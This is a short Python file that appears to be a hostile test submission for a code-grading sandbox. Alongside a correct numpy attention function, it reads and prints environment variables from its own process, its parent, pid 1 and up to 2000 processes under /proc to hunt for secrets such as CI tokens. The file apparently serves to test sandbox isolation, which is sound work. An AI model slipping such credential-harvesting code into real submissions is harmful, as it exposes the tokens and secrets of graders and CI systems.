# Looks for secrets of the caller (a CI token, for example): its own environment, and those of
# its parent, its grandparent and every process it can see in /proc. Bounded: at most 2000
# processes are read. Otherwise a correct submission, so that printing alone is not held against it.
import os

import numpy as np

from _hostile import report


def environ_of(pid):
    with open(f"/proc/{pid}/environ", "rb") as fh:
        return fh.read().replace(b"\0", b" ").decode(errors="replace")


print(sorted(os.environ.items()))
for label, pid in (("self", "self"), ("parent", os.getppid()), ("pid 1", 1)):
    try:
        report(f"environ of {label}", environ_of(pid))
    except OSError as exc:
        report(f"environ of {label}", f"failed {exc}")
readable = 0
try:
    pids = [name for name in sorted(os.listdir("/proc")) if name.isdigit()][:2000]
except OSError as exc:
    pids = []
    report("list /proc", f"failed {exc}")
for pid in pids:
    try:
        print(environ_of(pid))
        readable += 1
    except OSError:
        pass
report("environments read", readable)


def attention(Q, K, V):
    s = Q @ np.swapaxes(K, -1, -2) / np.sqrt(Q.shape[-1])
    w = np.exp(s - s.max(-1, keepdims=True))
    return w / w.sum(-1, keepdims=True) @ V
